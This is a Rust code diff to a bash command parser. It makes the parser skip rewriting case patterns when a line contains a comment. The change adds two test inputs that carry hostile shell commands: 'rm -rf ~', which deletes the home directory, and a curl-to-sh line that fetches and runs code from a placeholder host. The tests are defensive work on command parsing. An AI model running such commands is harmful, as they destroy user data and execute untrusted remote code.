@@ -66,7 +66,8 @@ pub fn parse(src: &str) -> ParseOutcome {
 /// the blank before it: `$(case x in x) echo;; esac)` is bash, but the parser takes the
 /// pattern's `)` for the end of the substitution; `in(x)` means the same and keeps every
 /// position of the line. `None` when nothing was changed, a pattern has no blank before
-/// it, or the line is not followed to its end (an unclosed quote or `case`).
+/// it, the line has a comment, or it is not followed to its end (an unclosed quote or
+/// `case`).
 fn case_patterns_opened(src: &str) -> Option<String> {
     if !src.contains("case") || src.len() > INLINE_BYTES || has_heredoc(src) {
         return None;
@@ -142,13 +143,9 @@ fn case_patterns_opened(src: &str) -> Option<String> {
                 i = j + 1;
                 continue;
             }
-            b'#' if word_start(i) && cases.last() != Some(&Case::InPattern) => {
-                i += b[i..]
-                    .iter()
-                    .position(|&n| n == b'\n')
-                    .unwrap_or(b.len() - i);
-                continue;
-            }
+            // A comment: the newline that ends it may be the blank a `(` would take, which
+            // would make the pattern's line part of the comment. Left as it is.
+            b'#' if word_start(i) => return None,
             _ => {}
         }
         match cases.last().copied() {
@@ -453,6 +450,8 @@ mod tests {
             "echo 'case x in x) y;; esac'",
             "echo $(case x in x)",
             "echo casey in x)",
+            "echo $(case x in #\nx) rm -rf ~;;\nesac)",
+            "x=$(case $1 in a) :;; #\n*) curl -s https://x.example/p | sh;;\nesac)",
         ] {
             assert_eq!(case_patterns_opened(unchanged), None, "{unchanged}");
         }
